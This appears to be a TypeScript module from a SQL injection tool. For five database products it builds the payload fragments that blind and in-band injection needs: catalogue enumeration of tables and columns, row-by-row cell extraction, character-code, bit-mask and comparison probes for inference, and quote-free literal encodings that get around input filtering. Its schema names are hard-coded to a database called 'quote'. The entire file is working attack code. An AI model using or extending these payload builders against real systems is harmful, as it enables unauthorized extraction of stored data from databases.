import type { Dialect } from '../options.ts';

/**
 * How one database spells what a blind or in-band injection needs. Texts follow the documented forms of each product
 * (substring, character code, NULL wrapper, row selection); `codes` is what the character function really returns.
 */
export type Grammar = {
  readonly name: Dialect;
  /** A text constant without quotes where the product allows it. */
  literal(text: string): string;
  wrap(column: string): string;
  /** The k-th cell (from 0) in the order of a column. */
  nth(column: string, table: string, order: string, k: number): string;
  /** The cell of one key. */
  keyed(column: string, table: string, key: string, value: string): string;
  count(table: string): string;
  /** The name of the k-th table, or column of a table, in alphabetical order. */
  catalogue(table: string | null, k: number): string;
  /** Character code at position p (from 1). */
  code(e: string, p: number): string;
  greater(e: string, p: number, n: number): string;
  bit(e: string, p: number, mask: number): string;
  length(e: string): string;
  left(e: string, p: number): string;
  join(parts: readonly string[]): string;
  codes(text: string): number[];
  text(codes: readonly number[]): string;
  readonly highest: number;
  readonly comment: string;
};

const points = (text: string): number[] => [...text].map(c => c.codePointAt(0)!);
const fromPoints = (codes: readonly number[]): string => codes.map(c => String.fromCodePoint(c)).join('');
const units = (text: string): number[] => Array.from({ length: text.length }, (_, i) => text.charCodeAt(i));
/** The UTF-8 bytes of each character as one big-endian number (MySQL ORD, Oracle ASCII in AL32UTF8). */
const byteNumbers = (text: string): number[] => [...text].map(c => Buffer.from(c, 'utf8').reduce((n, b) => n * 256 + b, 0));
function fromByteNumbers(codes: readonly number[]): string {
  return codes
    .map(code => {
      const bytes: number[] = [];
      for (let n = code; n > 0; n = Math.floor(n / 256)) bytes.unshift(n % 256);
      return Buffer.from(bytes).toString('utf8');
    })
    .join('');
}
const hexLiteral = (text: string): string => (text === '' ? "''" : `0x${Buffer.from(text, 'utf8').toString('hex')}`);
const chain = (text: string, name: string, glue: string): string =>
  text === ''
    ? "''"
    : `(${points(text)
        .map(c => `${name}(${c})`)
        .join(glue)})`;

const postgresql: Grammar = {
  name: 'postgresql',
  highest: 0x10ffff,
  comment: '-- ',
  codes: points,
  text: fromPoints,
  literal: t => chain(t, 'CHR', '||'),
  wrap: c => `COALESCE(CAST(${c} AS VARCHAR(10000))::text,(CHR(32)))`,
  nth: (c, t, o, k) => `(SELECT ${postgresql.wrap(c)} FROM public.${t} ORDER BY ${o} OFFSET ${k} LIMIT 1)::text`,
  keyed: (c, t, key, v) => `(SELECT ${postgresql.wrap(c)} FROM public.${t} WHERE ${key}=${v})::text`,
  count: t => `(SELECT COALESCE(CAST(COUNT(*) AS VARCHAR(10000))::text,(CHR(32))) FROM public.${t})::text`,
  catalogue: (t, k) =>
    t === null
      ? `(SELECT tablename::text FROM pg_catalog.pg_tables WHERE schemaname=${chain('public', 'CHR', '||')} ORDER BY tablename OFFSET ${k} LIMIT 1)::text`
      : `(SELECT column_name::text FROM information_schema.columns WHERE table_name=${chain(t, 'CHR', '||')} ORDER BY column_name OFFSET ${k} LIMIT 1)::text`,
  code: (e, p) => `ASCII(SUBSTRING(${e} FROM ${p} FOR 1))`,
  greater: (e, p, n) => `${postgresql.code(e, p)}>${n}`,
  bit: (e, p, m) => `(${postgresql.code(e, p)}&${m})>0`,
  length: e => `LENGTH(${e})`,
  left: (e, p) => `LEFT(${e},${p})`,
  join: parts => parts.join('||'),
};

const mysql: Grammar = {
  name: 'mysql',
  highest: 0xf4bfbfbf,
  comment: '-- -',
  codes: byteNumbers,
  text: fromByteNumbers,
  literal: hexLiteral,
  wrap: c => `IFNULL(CAST(${c} AS NCHAR),0x20)`,
  nth: (c, t, o, k) => `(SELECT ${mysql.wrap(c)} FROM quote.${t} ORDER BY ${o} LIMIT ${k},1)`,
  keyed: (c, t, key, v) => `(SELECT ${mysql.wrap(c)} FROM quote.${t} WHERE ${key}=${v})`,
  count: t => `(SELECT IFNULL(CAST(COUNT(*) AS NCHAR),0x20) FROM quote.${t})`,
  catalogue: (t, k) =>
    t === null
      ? `(SELECT table_name FROM INFORMATION_SCHEMA.TABLES WHERE table_schema=${hexLiteral('quote')} ORDER BY table_name LIMIT ${k},1)`
      : `(SELECT column_name FROM INFORMATION_SCHEMA.COLUMNS WHERE table_name=${hexLiteral(t)} ORDER BY column_name LIMIT ${k},1)`,
  code: (e, p) => `ORD(MID(${e},${p},1))`,
  greater: (e, p, n) => `${mysql.code(e, p)}>${n}`,
  bit: (e, p, m) => `(${mysql.code(e, p)}&${m})>0`,
  length: e => `CHAR_LENGTH(${e})`,
  left: (e, p) => `LEFT(${e},${p})`,
  join: parts => `CONCAT(${parts.join(',')})`,
};

const mssql: Grammar = {
  name: 'mssql',
  highest: 0xffff,
  comment: '-- ',
  codes: units,
  text: codes => String.fromCharCode(...codes),
  literal: t => chain(t, 'NCHAR', '+'),
  wrap: c => `ISNULL(CAST(${c} AS NVARCHAR(4000)),CHAR(32))`,
  nth: (c, t, o, k) =>
    `(SELECT TOP 1 ${mssql.wrap(c)} FROM quote.dbo.${t} WHERE ISNULL(CAST(${o} AS NVARCHAR(4000)),CHAR(32)) NOT IN (SELECT TOP ${k} ISNULL(CAST(${o} AS NVARCHAR(4000)),CHAR(32)) FROM quote.dbo.${t} ORDER BY ${o}) ORDER BY ${o})`,
  keyed: (c, t, key, v) => `(SELECT ${mssql.wrap(c)} FROM quote.dbo.${t} WHERE ${key}=${v})`,
  count: t => `(SELECT LTRIM(STR(COUNT(*))) FROM quote.dbo.${t})`,
  catalogue: (t, k) =>
    t === null
      ? `(SELECT TOP 1 name FROM quote..sysobjects WHERE xtype=CHAR(85) AND name NOT IN (SELECT TOP ${k} name FROM quote..sysobjects WHERE xtype=CHAR(85) ORDER BY name) ORDER BY name)`
      : `(SELECT TOP 1 name FROM quote..syscolumns WHERE id=OBJECT_ID('${t}') AND name NOT IN (SELECT TOP ${k} name FROM quote..syscolumns WHERE id=OBJECT_ID('${t}') ORDER BY name) ORDER BY name)`,
  code: (e, p) => `UNICODE(SUBSTRING(${e},${p},1))`,
  greater: (e, p, n) => `${mssql.code(e, p)}>${n}`,
  bit: (e, p, m) => `(${mssql.code(e, p)}&${m})>0`,
  length: e => `(LEN(${e}+'.')-1)`,
  left: (e, p) => `LEFT(${e},${p})`,
  join: parts => parts.join('+'),
};

const oracle: Grammar = {
  name: 'oracle',
  highest: 0xf4bfbfbf,
  comment: '-- ',
  codes: byteNumbers,
  text: fromByteNumbers,
  literal: t =>
    [...t].every(c => c < '\u0080')
      ? chain(t, 'CHR', '||')
      : `UNISTR('${units(t)
          .map(u => `\\${u.toString(16).padStart(4, '0')}`)
          .join('')}')`,
  wrap: c => `NVL(CAST(${c} AS VARCHAR(4000)),CHR(32))`,
  nth: (c, t, o, k) =>
    `(SELECT ${oracle.wrap(c)} FROM (SELECT ${c},ROWNUM AS CAP FROM (SELECT ${c} FROM QUOTE.${t.toUpperCase()} ORDER BY ${o})) WHERE CAP=${k + 1})`,
  keyed: (c, t, key, v) => `(SELECT ${oracle.wrap(c)} FROM QUOTE.${t.toUpperCase()} WHERE ${key}=${v})`,
  count: t => `(SELECT NVL(CAST(COUNT(*) AS VARCHAR(4000)),CHR(32)) FROM QUOTE.${t.toUpperCase()})`,
  catalogue: (t, k) =>
    t === null
      ? `(SELECT TABLE_NAME FROM (SELECT TABLE_NAME,ROWNUM AS CAP FROM (SELECT TABLE_NAME FROM SYS.ALL_TABLES WHERE OWNER='QUOTE' ORDER BY TABLE_NAME)) WHERE CAP=${k + 1})`
      : `(SELECT COLUMN_NAME FROM (SELECT COLUMN_NAME,ROWNUM AS CAP FROM (SELECT COLUMN_NAME FROM SYS.ALL_TAB_COLUMNS WHERE TABLE_NAME='${t.toUpperCase()}' ORDER BY COLUMN_NAME)) WHERE CAP=${k + 1})`,
  code: (e, p) => `ASCII(SUBSTRC(${e},${p},1))`,
  greater: (e, p, n) => `${oracle.code(e, p)}>${n}`,
  bit: (e, p, m) => `BITAND(${oracle.code(e, p)},${m})>0`,
  length: e => `LENGTH(${e})`,
  left: (e, p) => `SUBSTR(${e},1,${p})`,
  join: parts => parts.join('||'),
};

const sqlite: Grammar = {
  name: 'sqlite',
  highest: 0x10ffff,
  comment: '-- ',
  codes: points,
  text: fromPoints,
  literal: t => (t === '' ? "''" : `CHAR(${points(t).join(',')})`),
  wrap: c => `COALESCE(CAST(${c} AS TEXT),CHAR(32))`,
  nth: (c, t, o, k) => `(SELECT ${sqlite.wrap(c)} FROM ${t} ORDER BY ${o} LIMIT ${k},1)`,
  keyed: (c, t, key, v) => `(SELECT ${sqlite.wrap(c)} FROM ${t} WHERE ${key}=${v})`,
  count: t => `(SELECT COALESCE(CAST(COUNT(*) AS TEXT),CHAR(32)) FROM ${t})`,
  catalogue: (t, k) =>
    t === null
      ? `(SELECT tbl_name FROM sqlite_master WHERE type='table' ORDER BY tbl_name LIMIT ${k},1)`
      : `(SELECT name FROM pragma_table_info('${t}') ORDER BY name LIMIT ${k},1)`,
  code: (e, p) => `UNICODE(SUBSTR(${e},${p},1))`,
  greater: (e, p, n) => `SUBSTR(${e},${p},1)>CHAR(${n})`,
  bit: (e, p, m) => `(${sqlite.code(e, p)}&${m})>0`,
  length: e => `LENGTH(${e})`,
  left: (e, p) => `SUBSTR(${e},1,${p})`,
  join: parts => parts.join('||'),
};

const grammars: Record<Dialect, Grammar> = { postgresql, mysql, mssql, oracle, sqlite };

export function grammarOf(dialect: Dialect): Grammar {
  return grammars[dialect];
}
